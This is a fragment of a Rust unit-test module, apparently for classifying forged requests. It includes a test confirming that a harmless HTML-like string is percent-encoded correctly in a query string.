            Outcome::NothingAttached
        );
        assert_eq!(classify_forged(s, &[], "POST"), Outcome::NotSent);
    }

    #[test]
    fn the_payload_survives_the_query_string() {
        assert_eq!(encode("<a b='c'>"), "%3Ca%20b%3D%27c%27%3E");
    }
}
